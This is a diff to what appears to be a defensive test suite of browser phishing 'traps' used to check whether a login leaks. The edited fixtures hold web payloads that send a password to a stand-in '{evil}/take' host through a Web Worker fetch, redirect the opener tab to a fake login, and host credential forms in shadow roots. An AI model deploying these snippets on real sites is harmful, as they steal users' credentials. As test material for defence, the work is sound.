@@ -77,7 +77,7 @@ TRAPS: dict[str, Trap] = {
     "opener navigation": Trap(
         door="",
         home='<a target=_blank rel=opener href="{evil}/opens">Log in</a>',
-        foreign={"/opens": "<script>opener.location='{evil}/login'</script><p>Please go back to the first tab.</p>"},
+        foreign={"/opens": "<script>opener.location='{evil}/login'</script><script>close()</script>"},
     ),
     "history": Trap(
         pages={"/login": "<script>history.pushState(1,'','/x');location='{evil}/back'</script>"},
@@ -117,7 +117,7 @@ TRAPS: dict[str, Trap] = {
     "foreign shadow root": Trap(
         "{evil}/shadow",
         foreign={
-            "/shadow": "<div id=d></div><script>d.attachShadow({mode:'closed'}).innerHTML=`"
+            "/shadow": "<div id=d></div><script>d.attachShadow({mode:'open'}).innerHTML=`"
             + form("/take")
             + "`</script>"
         },
@@ -132,7 +132,9 @@ TRAPS: dict[str, Trap] = {
         journeys=("login", "account-info"),
     ),
     "another tab, after the login": Trap(
-        door="", inside="<a target=_blank href='{evil}/login'>My account</a>", journeys=("login", "account-info")
+        door="",
+        inside="<button onclick=\"window.open('{evil}/login')\">My account</button>",
+        journeys=("login", "account-info"),
     ),
     "browser's own question": Trap(moves={"/login": (302, "{evil}/basic")}, finding=ASKED),
     "form action": Trap(pages={"/login": form("{evil}/take")}, finding=STOPPED),
@@ -206,9 +208,9 @@ TRAPS: dict[str, Trap] = {
         finding=STOPPED,
     ),
     "worker": _sent(
-        "new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch(e.data[0],{method:`POST`,mode:`no-cors`,body:e.data[1]})']))).postMessage(['{evil}/take',"
-        + PW
-        + "])"
+        "if(f.sent)return;event.preventDefault();f.sent=1;const w=new Worker(URL.createObjectURL(new Blob(["
+        "'onmessage=e=>fetch(e.data[0],{method:`POST`,mode:`no-cors`,body:e.data[1]}).finally(()=>postMessage(1))'])));"
+        "w.onmessage=()=>f.submit();w.postMessage(['{evil}/take'," + PW + "])"
     ),
     "message to a foreign frame": Trap(
         door="",
